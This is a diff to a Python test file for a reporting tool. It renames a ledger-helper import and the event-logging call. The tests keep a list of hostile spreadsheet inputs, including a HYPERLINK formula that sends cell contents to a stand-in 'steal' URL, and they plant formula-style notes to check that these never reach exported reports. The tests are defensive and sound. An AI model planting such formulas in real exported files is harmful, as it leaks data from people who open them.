@@ -36,8 +36,7 @@ from sharelog.reports import (
 from sharelog.reports._formats import write_csv, write_json
 from sharelog.reports._workbook import write_workbook
 
-from .._ledger_rows import migrated
-from ._golden_ledger import MONTHS, build_golden_ledger, event
+from ..worlds import MONTHS, add_outcome_event, build_golden_ledger, migrated
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")',
@@ -135,10 +134,12 @@ def test_outcome_notes_never_reach_a_report(golden_engine: Engine, tmp_path: Pat
     with ledger_session(golden_engine) as session:
         disclosure = session.execute(select(Disclosure).order_by(Disclosure.id)).scalars().first()
         assert disclosure is not None
-        event(
+        add_outcome_event(
             session, disclosure, "use", "contact_attempt", note=f'=HYPERLINK("http://x.invalid","{marker}")'
         )
-        event(session, disclosure, "intervention", "letter", note=f"-{marker} Mrs H., 12 Acacia Avenue")
+        add_outcome_event(
+            session, disclosure, "intervention", "letter", note=f"-{marker} Mrs H., 12 Acacia Avenue"
+        )
     written: list[Path] = []
     now = datetime(2019, 7, 1, tzinfo=UTC)
     with ledger_session(golden_engine) as session:
